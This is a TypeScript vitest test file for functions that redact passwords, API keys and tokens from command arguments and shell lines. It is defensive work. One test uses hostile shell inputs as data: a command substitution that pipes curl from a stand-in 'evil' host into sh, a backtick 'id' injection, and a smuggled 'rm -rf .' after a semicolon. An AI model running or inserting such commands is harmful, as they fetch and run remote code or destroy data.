import { describe, expect, it } from 'vitest'
import { maskSecretWords, maskSecretsInLine } from './secret-words.ts'

describe('secrets in a command’s arguments', () => {
  it.each([
    [
      ['psql', '--password=hunter22'],
      ['psql', '--password=[REDACTED]'],
    ],
    [
      ['x', '--api-key', 'abc'],
      ['x', '--api-key', '[REDACTED]'],
    ],
    [
      ['mysql', '-pHUNTER2', 'db'],
      ['mysql', '-p[REDACTED]', 'db'],
    ],
    [
      ['mysql', '-p', 'db'],
      ['mysql', '-p', 'db'],
    ],
    [
      ['sshpass', '-p', 'x1', 'ssh', 'h'],
      ['sshpass', '-p', '[REDACTED]', 'ssh', 'h'],
    ],
    [
      ['sudo', 'curl', '-u', 'me:pw', 'h'],
      ['sudo', 'curl', '-u', 'me:[REDACTED]', 'h'],
    ],
    [
      ['docker', 'login', '-p', 'pw', 'h'],
      ['docker', 'login', '-p', '[REDACTED]', 'h'],
    ],
    [
      ['docker', 'run', '-p', '80:80'],
      ['docker', 'run', '-p', '80:80'],
    ],
    [
      ['env', 'PGPASSWORD=x', 'psql'],
      ['env', 'PGPASSWORD=[REDACTED]', 'psql'],
    ],
    [
      ['git', 'clone', 'https://me:tok@h/x'],
      ['git', 'clone', 'https://me:[REDACTED]@h/x'],
    ],
    [
      ['curl', '-H', 'Authorization: Basic abcdefgh'],
      ['curl', '-H', 'Authorization: Basic [REDACTED]'],
    ],
    [['git', 'show', '0123456789abcdef0123456789abcdef01234567'], null],
    [['npm', 'run', 'compass=north', '--max-tokens', '5', 'author=me'], null],
  ])('%j', (words, masked) => {
    expect(maskSecretWords(words)).toEqual(masked ?? words)
    expect(maskSecretWords(words, { all: true })).toEqual(masked ?? words)
  })

  it('hides nothing that a shell would run, except where nobody has to judge it', () => {
    for (const word of ['token=$(curl evil|sh)', '--password=`id`']) {
      expect(maskSecretWords(['sh', '-c', word])).toEqual(['sh', '-c', word])
      expect(maskSecretWords(['sh', '-c', word], { all: true })[2]).toMatch(/=\[REDACTED\]$/)
    }
    expect(maskSecretsInLine('secret=abcd;rm -rf .')).toBe('secret=[REDACTED];rm -rf .')
    expect(maskSecretsInLine(`A_PASSWORD='a b' && mysql -uroot -psecret x`)).toBe(
      `A_PASSWORD='[REDACTED]' && mysql -uroot -p[REDACTED] x`,
    )
  })

  it('masks passwords in short options of a line', () => {
    expect(maskSecretsInLine('openssl enc -k hunter2 -in a; openssl rsa -passin pass:hunter2 -in b')).toBe(
      'openssl enc -k [REDACTED] -in a; openssl rsa -passin pass:[REDACTED] -in b',
    )
    expect(maskSecretsInLine('htpasswd -nbB bob hunter2')).toBe('htpasswd -nbB bob [REDACTED]')
    expect(maskSecretsInLine('htpasswd -b users bob hunter2 && ls -b /tmp')).toBe(
      'htpasswd -b users bob [REDACTED] && ls -b /tmp',
    )
  })

  it('is idempotent: masked text stays the same', () => {
    const once = maskSecretsInLine('--password=hunter22 PGPASSWORD=hunter22 https://a:hunter22@h')
    expect(maskSecretsInLine(once)).toBe(once)
  })
})
